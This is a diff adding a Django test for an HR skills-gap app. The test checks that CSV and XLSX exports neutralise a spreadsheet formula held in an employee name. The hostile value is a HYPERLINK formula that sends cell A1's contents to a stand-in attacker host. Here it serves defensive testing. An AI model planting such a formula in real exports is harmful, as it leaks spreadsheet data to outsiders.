@@ -113,3 +113,25 @@ def test_gaps_by_unit_bad_filter_gives_a_message(client, staff):
     response = client.get(reverse("skills_unit_gaps"), {"unit": "nope"})
     assert response.status_code == 200
     assert [m.level_tag for m in response.context["messages"]] == ["error"]
+
+
+def test_gaps_by_employee_exports_a_formula_name_as_text(client, staff):
+    """CSV: a leading apostrophe; XLSX: a typed string cell, never a formula."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bax")'
+    staff["banu"].full_name = hostile
+    staff["banu"].save()
+    client.force_login(staff["hr"].user)
+    response = client.get(reverse("skills_gaps"), {"export": "csv"})
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + hostile in cells and hostile not in cells
+    response = client.get(reverse("skills_gaps"), {"export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    (name,) = [c for row in sheet.iter_rows() for c in row if c.value == hostile]
+    assert name.data_type == "s"
+    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["B"].width > 20
